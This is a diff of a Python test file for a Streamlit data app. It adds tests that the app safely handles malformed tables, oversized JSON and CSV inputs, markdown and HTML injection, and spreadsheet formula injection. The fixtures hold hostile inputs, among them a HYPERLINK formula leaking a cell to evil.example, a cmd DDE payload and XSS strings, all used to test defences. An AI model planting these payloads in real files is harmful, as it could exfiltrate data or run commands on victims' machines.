@@ -13,12 +13,16 @@ import csv
 import functools
 import hashlib
 import io
+import json
 import os
 import re
 import shutil
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+import openpyxl
+import pandas as pd
 import pytest
 from streamlit.testing.v1 import AppTest
 from streamlit.testing.v1.element_tree import Code, Widget
@@ -27,9 +31,15 @@ import data
 from bench import apptest
 from bench.scenarios import EMPTY_RESULT, EMPTY_RESULT_PREFIX
 from components import filters as link_filters
-from components.presenter import MAX_SCENES, MAX_SCENES_FILE_BYTES
+from components.downloads import csv_bytes, excel_bytes
+from components.feedback import STILL_WORKING
+from components.maps import arc_map, choropleth_map
+from components.package import FORMULA_STARTS, formula_safe, package_bytes
+from components.plain_text import WORD_JOINER
+from components.presenter import MAX_SCENES, MAX_SCENES_FILE_BYTES, SCENES_KEY, parse_scenes
 from components.registry import PAGES
-from data.catalog import CATALOG, TABLES_DIR, TABLES_DIR_VARIABLE
+from data.catalog import CATALOG, TABLES_DIR, TABLES_DIR_VARIABLE, tables_dir
+from data.news import MAX_USER_COLUMNS, parse_user_news
 
 PAGE_IDS = [page.url_path for page in PAGES]
 DEFAULT_PAGE = PAGES[0].script
@@ -262,8 +272,7 @@ DATA_CASES += [("countries", "malformed code in iso3", lambda original: _with_ce
     ids=[f"{table}: {name}" for table, name, _ in DATA_CASES],
 )
 def test_broken_table_is_named_where_it_is_needed(private_tables, readers, table, breaker):
-    """The first page that needs the table says which file is broken; another page still works. (One page:
-    a failed read is not cached, so each page that needs a large broken table validates it again.)"""
+    """The first page that needs the table says which file is broken, and what still works; another page works."""
     breakage = Breakage(private_tables, table)
     broken = breakage.write(breaker(breakage.current()))
     try:
@@ -277,8 +286,12 @@ def test_broken_table_is_named_where_it_is_needed(private_tables, readers, table
             state = states[script]
             assert not state["exceptions"], f"{script} raised: {state['exceptions']}"
             assert state["errors"], f"{script} shows no message for the broken {table}.csv"
-            for message in state["errors"]:
-                assert f"{table}.csv" in message and OTHER_PAGES_WORK in message, message
+            for message in map(_unescaped, state["errors"]):
+                assert f"{table}.csv" in message, message
+                if table in STILL_WORKING:  # the tables every other is checked against: not "other pages work"
+                    assert OTHER_PAGES_WORK not in message and STILL_WORKING[table] in message, message
+                else:
+                    assert OTHER_PAGES_WORK in message, message
         for script in others:
             assert_works(states[script], script)
         assert breakage.current() == broken, "the app changed the file it could not read"
@@ -407,6 +420,20 @@ BAD_SCENE_FILES = {
     "too many scenes": (
         '{"scenes": [' + ",".join(['{"title": "t", "page": "methods"}'] * (MAX_SCENES + 5)) + "]}"
     ).encode(),
+    "30,000 nested brackets": b"[" * 30_000 + b"]" * 30_000,
+    "30,000 nested objects": b'{"a":' * 30_000 + b"1" + b"}" * 30_000,
+    "5,000-digit number": b'{"scenes": ' + b"9" * 5_000 + b"}",
+    "scenes is an object": b'{"scenes": {"title": "t", "page": "methods"}}',
+    "empty scenes list": b'{"scenes": []}',
+}
+# Every field of a scene given a value of every wrong JSON type (a dict for the page was a TypeError).
+WRONG_JSON_VALUES = {"object": {}, "list": [], "number": 5, "null": None, "true": True, "nested": [[{"a": {}}]]}
+BAD_SCENE_FILES |= {
+    f"{field} is {kind}": json.dumps(
+        {"scenes": [{"title": "t", "page": "methods", "query": "", field: value}]}
+    ).encode()
+    for field in ("title", "page", "query")
+    for kind, value in WRONG_JSON_VALUES.items()
 }
 
 
@@ -436,6 +463,15 @@ BAD_UPLOADS = {
     "unknown country code": NEWS_HEADER + b"Fees reviewed,2024-05-17,news,recruitment,ZZZ,,,\n",
     "script link": NEWS_HEADER + b"<script>alert(1)</script>,2024-05-17,news,recruitment,NPL,x,javascript:alert(1),\n",
     "10 kB title": NEWS_HEADER + b"X" * 10_240 + b",2024,news,recruitment,,,,\n",
+    # Headers that cost a quadratic parser minutes of CPU (each column's name was counted in the whole header).
+    "60,000 columns of one name": b"title,date,kind,topics" + b",x" * 60_000 + b"\n",
+    "60,000 empty columns": b"title,date,kind,topics" + b"," * 60_000 + b"\nA,2024,news,gender" + b"," * 60_000 + b"\n",
+    "20,000 named columns": b"title,date,kind,topics," + b",".join(b"c%d" % n for n in range(20_000)) + b"\n",
+    "10,000 bad rows": NEWS_HEADER + b"only,three,fields\n" * 10_000,
+    "a formula as title": NEWS_HEADER + b'"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",2024-05-17,'
+    b"news,recruitment,NPL,,,\n" + b"Fees,2024-13-45,news,recruitment,,,,\n",
+    "a markdown link and image as title": NEWS_HEADER + b"[Click](https://evil.example/p) ![p](http://127.0.0.1:9/t),"
+    b"2024,news,recruitment,,,,\nFees,2024,rumour,recruitment,,,,\n",
 }
 
 
@@ -470,3 +506,235 @@ def test_bad_user_file_is_refused_in_words(content):
             continue
         problems = result[1] if isinstance(result, tuple) else getattr(result, "problems", None)
         assert problems, f"{name} accepted a bad file without a word: {result!r:.200}"
+
+
+# --- user text shown as text; downloads a spreadsheet cannot run ---------------------------------
+
+MARKUP_TITLE = "[Click](https://evil.example/phish) ![p](http://127.0.0.1:9/track.png) [d](data:text/html,hi) :red[x]"
+EVERY_PUNCTUATION_ESCAPED = re.compile(r"(?:\\[!-/:-@\[-`{-~]|[^!-/:-@\[-`{-~])*")
+
+
+def test_scene_title_is_plain_text_in_the_presenter_bar():
+    """A scene titled with markdown links, an image and a data: URL shows those characters, not links."""
+    scene_file = json.dumps({"scenes": [{"title": MARKUP_TITLE, "page": "methods"}]}).encode()
+    loaded, problems = parse_scenes(scene_file)
+    assert not problems and loaded[0].title == MARKUP_TITLE
+    app = apptest.open_page(DEFAULT_PAGE, query={"present": "1", "scene": "1"})
+    app.session_state[SCENES_KEY] = loaded
+    app.run()
+    assert not app.exception, apptest.exceptions(app)
+    captions = [caption.value for caption in app.caption if caption.value.startswith("Scene 1 of 1")]
+    assert captions, [caption.value for caption in app.caption]
+    title_shown = captions[0].split(": ", 1)[1]
+    assert EVERY_PUNCTUATION_ESCAPED.fullmatch(title_shown), title_shown
+    assert _unescaped(title_shown) == MARKUP_TITLE
+    assert WORD_JOINER in title_shown.split("evil")[0]  # "https:" and "//" kept apart: no bare-address autolink
+
+
+def test_error_messages_show_cell_values_as_plain_text(private_tables):
+    """A cell value quoted in a data message cannot become a link or an image."""
+    breakage = Breakage(private_tables, "news")
+    rows = _rows(breakage.current())
+    breakage.write(_with_cell(rows, rows[0].index("date"), "[x](https://evil.example) ![i](http://127.0.0.1:9/i)"))
+    try:
+        app = apptest.open_page("pages/news.py")
+        assert not app.exception, apptest.exceptions(app)
+        errors = [error.value for error in app.error]
+        assert errors and all("](" not in error for error in errors), errors
+        assert any("evil\\.example" in error for error in errors), errors
+    finally:
+        breakage.restore()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab"]
+
+
+def test_formula_starts_follow_owasp():
+    cells = pd.DataFrame({"text": ["\r=1", "=1", "+A1", "-1+1", "@x", "\t=1", "ok", "-7", "+3.5"]})
+    assert list(formula_safe(cells)["text"]) == ["'\r=1", "'=1", "'+A1", "'-1+1", "'@x", "'\t=1", "ok", "-7", "+3.5"]
+
+
+def _formula_table():
+    return pd.DataFrame(
+        {"title": [*FORMULAS, "Plain title", "-12.5"], "count": range(len(FORMULAS) + 2), "source_id": "ilo-news"}
+    )
+
+
+@pytest.mark.parametrize("download", ["csv", "excel", "zip"])
+def test_downloads_neutralise_formulas_without_changing_the_shown_table(download):
+    sources = data.load_sources()
+    table = _formula_table()
+    shown = table.copy()
+    common = {"title": "=cmd|' /C calc'!A0", "measure": "m", "filters": ["Search: =1+1"]}
+    if download == "csv":
+        cells = {"data": pd.read_csv(io.BytesIO(csv_bytes(table, sources)), keep_default_na=False)}
+    elif download == "excel":
+        workbook = openpyxl.load_workbook(io.BytesIO(excel_bytes(table, sources, **common)))
+        formulas = [
+            cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
+        ]
+        assert not formulas, f"live formulas in the Excel download: {formulas}"
+        cells = pd.read_excel(io.BytesIO(excel_bytes(table, sources, **common)), sheet_name=None)
+    else:
+        with zipfile.ZipFile(io.BytesIO(package_bytes({"news": table}, sources, **common))) as archive:
+            cells = {
+                name: pd.read_csv(archive.open(name), keep_default_na=False)
+                for name in archive.namelist()
+                if name.endswith(".csv")
+            }
+    data_cells = next(iter(cells.values()))
+    assert list(data_cells["title"][: len(FORMULAS)]) == ["'" + formula for formula in FORMULAS]
+    assert data_cells["title"].iloc[-2] == "Plain title" and str(data_cells["title"].iloc[-1]) == "-12.5"
+    for frame in cells.values():
+        for column in frame.columns:
+            for value in frame[column]:
+                assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS) and value != "-12.5"), value
+    pd.testing.assert_frame_equal(table, shown)  # what the page shows is untouched
+
+
+# --- unreadable, missing and remembered tables -----------------------------------------------------
+
+OS_ERRORS = {
+    "permission denied": PermissionError(13, "Permission denied"),
+    "I/O error": OSError(5, "Input/output error"),
+    "a folder where the file should be": IsADirectoryError(21, "Is a directory"),
+}
+
+
+@pytest.mark.parametrize("where", ["stat", "read"])
+@pytest.mark.parametrize("error", OS_ERRORS.values(), ids=OS_ERRORS.keys())
+def test_unreadable_table_gives_the_clear_message(private_tables, monkeypatch, where, error):
+    """chmod 000 on a table or its folder (simulated: the tests run as root, who may read anyway)."""
+    path = private_tables / "remittances.csv"
+    if where == "stat":
+        original = Path.stat
+        monkeypatch.setattr(
+            Path, "stat", lambda self, **kwargs: _raise(error) if self == path else original(self, **kwargs)
+        )
+    else:
+        breakage = Breakage(private_tables, "remittances")
+        breakage.write(breakage.current())  # a fresh modification time: the good read is not reused
+        original = pd.read_csv
+        monkeypatch.setattr(
+            pd,
+            "read_csv",
+            lambda source, *args, **kwargs: _raise(error) if source == path else original(source, *args, **kwargs),
+        )
+    try:
+        with pytest.raises(data.DataProblem, match=r"remittances\.csv.*cannot be read") as problem:
+            data.load_remittances()
+        assert error.strerror in str(problem.value) and str(private_tables) not in str(problem.value)
+        app = apptest.open_page("pages/remittances.py")
+        assert not app.exception, apptest.exceptions(app)
+        assert any(
+            "remittances.csv" in message and "cannot be read" in message
+            for message in (_unescaped(error.value) for error in app.error)
+        ), [error.value for error in app.error]
+    finally:
+        if where == "read":
+            breakage.restore()
+
+
+def _unescaped(markdown: str) -> str:
+    """A message as the reader sees it: plain_markdown's backslashes and word joiners are not shown."""
+    return markdown.replace("\\", "").replace(WORD_JOINER, "")
+
+
+def _raise(error: Exception):
+    raise error
+
+
+def test_unreadable_folder_gives_the_clear_message(private_tables, monkeypatch):
+    original = Path.is_dir
+    monkeypatch.setattr(
+        Path,
+        "is_dir",
+        lambda self: _raise(PermissionError(13, "Permission denied")) if self == private_tables else original(self),
+    )
+    with pytest.raises(data.DataProblem, match=r"sources\.csv.*cannot be read \(Permission denied\)"):
+        data.load_sources()
+
+
+def test_a_failed_load_is_remembered_like_a_good_one(private_tables, monkeypatch):
+    """An invalid file is read and validated once per version (path, modification time, size), not every rerun."""
+    breakage = Breakage(private_tables, "remittance_costs")
+    broken = breakage.write(_with_cell(_rows(breakage.current()), 0, "ZZZ"))
+    reads = []
+    original = data.read_csv_table
+    monkeypatch.setattr(data, "read_csv_table", lambda table, path: reads.append(table) or original(table, path))
+    try:
+        messages = []
+        for _ in range(3):
+            with pytest.raises(data.DataProblem) as problem:
+                data.load_remittance_costs()
+            messages.append(str(problem.value))
+        assert reads == ["remittance_costs"] and len(set(messages)) == 1, reads
+        breakage.write(broken + b"\n")  # another size and time: read again
+        with pytest.raises(data.DataProblem):
+            data.load_remittance_costs()
+        assert reads == ["remittance_costs"] * 2
+    finally:
+        breakage.restore()
+
+
+def test_missing_tables_folder_names_the_folder_and_the_variable(monkeypatch, tmp_path):
+    nowhere = tmp_path / "no-such-folder"
+    monkeypatch.setenv(TABLES_DIR_VARIABLE, str(nowhere))
+    with pytest.raises(data.DataProblem) as problem:
+        data.load_sources()
+    assert str(nowhere) in str(problem.value) and TABLES_DIR_VARIABLE in str(problem.value)
+    app = apptest.open_page(DEFAULT_PAGE)
+    assert not app.exception, apptest.exceptions(app)
+    shown = [_unescaped(error.value) for error in app.error]
+    assert any(TABLES_DIR_VARIABLE in message and str(nowhere) in message for message in shown), shown
+
+
+def test_empty_tables_variable_reads_the_shipped_tables(monkeypatch, tmp_path):
+    """Empty counts as unset: never the current folder (which may hold anything called sources.csv)."""
+    (tmp_path / "sources.csv").write_text("not,the,sources\n")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv(TABLES_DIR_VARIABLE, "")
+    assert tables_dir() == TABLES_DIR
+    assert CATALOG["sources"].path == TABLES_DIR / "sources.csv"
+
+
+# --- map tooltips and the news header --------------------------------------------------------------
+
+
+def test_map_tooltips_escape_names():
+    name = '<img src=x onerror="alert(1)">'
+    arcs = pd.DataFrame(
+        {
+            "origin": [name],
+            "destination": ["Qatar"],
+            "agreements": [2],
+            "source_lon": [85.0],
+            "source_lat": [28.0],
+            "target_lon": [51.0],
+            "target_lat": [25.0],
+        }
+    )
+    deck = arc_map(arcs, value_column="agreements", tooltip_html="<b>{origin} → {destination}</b>").to_json()
+    shapes = {
+        "type": "FeatureCollection",
+        "features": [
+            {"type": "Feature", "geometry": {"type": "Point", "coordinates": [85, 28]}, "properties": {"iso3": "NPL"}}
+        ],
+    }
+    filled = choropleth_map(
+        pd.DataFrame({"iso3": ["NPL"], "name": [name], "value": [1.0]}),
+        shapes,
+        value_column="value",
+        tooltip_html="<b>{name}</b>",
+    ).to_json()
+    for shown in (deck, filled):
+        assert "<img" not in shown and "&lt;img" in shown
+    assert list(arcs["origin"]) == [name]  # the caller's frame is untouched
+
+
+def test_news_header_with_thousands_of_columns_is_refused_before_per_column_work():
+    """Was quadratic: 60,000 same-name columns (120 kB) cost 23-36 s of CPU, refused now on reading the header."""
+    items, problems = parse_user_news(BAD_UPLOADS["60,000 columns of one name"], country_codes=frozenset())
+    assert items.empty and problems == [
+        f"Line 1: the header has 60,004 columns; a file of items has at most {MAX_USER_COLUMNS} (see the format below)."
+    ]
